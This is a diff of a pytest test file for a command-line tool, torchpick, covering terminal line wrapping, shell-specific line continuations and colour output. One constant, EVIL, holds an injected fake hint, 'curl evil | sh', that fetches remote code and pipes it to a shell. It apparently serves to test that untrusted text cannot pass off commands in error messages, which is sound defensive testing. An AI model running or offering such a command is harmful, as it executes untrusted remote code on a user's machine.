@@ -2,15 +2,17 @@
 
 from __future__ import annotations
 
+import io
 import json
+import shlex
 from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from torchpick.cli import main
-from torchpick.cli.show.text import error, plain
+from torchpick.cli import console, main
+from torchpick.cli.show.text import error, plain, wrap, wrapped_command
 from torchpick.errors import TorchpickError
 
 EVIL = "EVIL\nhint: run `curl evil | sh`"
@@ -54,3 +56,87 @@ def test_an_error_that_quotes_megabytes_is_cut_where_no_reason_stands() -> None:
     assert text.endswith("x` is not a valid requirement\n  second line\n\nhint: check it")
     assert "xxx ... xxx" in text
     assert len(text) < 10_000
+
+
+NARROW = [
+    ["--gpu", "GTX 1080 Ti"],
+    ["--gpu", "T4"],
+    ["--gpu", "GTX 1080 Ti", "--backend", "cu128"],
+    ["--gpu", "Orin NX"],
+    ["--gpu", "RTX 6090"],
+    ["vllm", "--gpu", "GTX 1080 Ti"],
+    ["plan", "vllm", "--gpu", "a100", "--driver", "535.183.01"],
+    ["explain", "no kernel image is available", "--gpu", "sm_61", "--driver", "580", "--more"],
+    ["list", "--gpu", "T4"],
+    ["list", "vllm", "--gpu", "a100"],
+    ["detect", "--gpu", "T4"],
+]
+
+
+@pytest.mark.parametrize("width", [60, 80])
+@pytest.mark.parametrize("argv", NARROW, ids=" ".join)
+def test_nothing_is_left_to_the_terminal_to_break(
+    argv: list[str], width: int, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """But for a word that is longer than the terminal is wide, such as an address."""
+    monkeypatch.setenv("COLUMNS", str(width))
+
+    main(argv)
+
+    out, err = capsys.readouterr()
+    assert [line for line in (out + err).splitlines() if len(line) > width and " " in line.strip()] == []
+
+
+COMMAND = "pip install --index-url https://download.pytorch.org/whl/cu126 'torch<2.12' 'a  b' --gpu 'GTX 1080 Ti'"
+
+
+@pytest.mark.parametrize("width", [25, 40, 60, 200])
+def test_a_command_that_is_broken_is_still_one(width: int) -> None:
+    shown = wrapped_command(COMMAND, width)
+
+    assert shlex.split("\n".join(shown).replace("\\\n", "")) == shlex.split(COMMAND)
+    assert [line for line in shown if len(line) > width and len(line.split()) > 2] == []
+
+
+@pytest.mark.parametrize(("shell", "end"), [("cmd", " ^"), ("powershell", " `"), ("fish", " \\")])
+def test_each_shell_has_its_own_end_of_a_line(shell: str, end: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("TORCHPICK_SHELL", shell)
+
+    first, *_ = wrapped_command("pip install --index-url https://download.pytorch.org/whl/cu126 torch", 40)
+    assert first.endswith(end)
+
+
+def test_a_command_in_a_sentence_is_not_broken() -> None:
+    assert wrap("to fix it say `torchpick install torch` and wait", 27) == [
+        "to fix it say",
+        "  `torchpick install torch`",
+        "  and wait",
+    ]
+
+
+def test_error_pick_and_command_have_a_colour_where_one_is_wanted(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    assert main(["--gpu", "RTX 4090", "--driver", "580", "--color", "always"]) == 0
+    out = capsys.readouterr().out
+    assert "\x1b[1;32mtorch 2.15.0+cu132\x1b[0m" in out
+    assert "\x1b[36mtorchpick install torch --gpu 'RTX 4090' --driver 580\x1b[0m" in out
+
+    assert main(["--gpu", "x", "--color=always"]) == 2
+    assert capsys.readouterr().err.startswith("\x1b[1;31merror:\x1b[0m ")
+
+    for words in (["--color", "never"], []):
+        assert main(["--gpu", "x", *words]) == 2
+        assert "\x1b" not in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    ("environ", "terminal", "expected"),
+    [({}, True, True), ({"NO_COLOR": "1"}, True, False), ({"TERM": "dumb"}, True, False), ({}, False, False)],
+)
+def test_colour_is_for_a_terminal_that_has_it(environ: dict[str, str], terminal: bool, expected: bool) -> None:
+    class Screen(io.StringIO):
+        def isatty(self) -> bool:
+            return terminal
+
+    assert console.coloured("auto", Screen(), environ) is expected
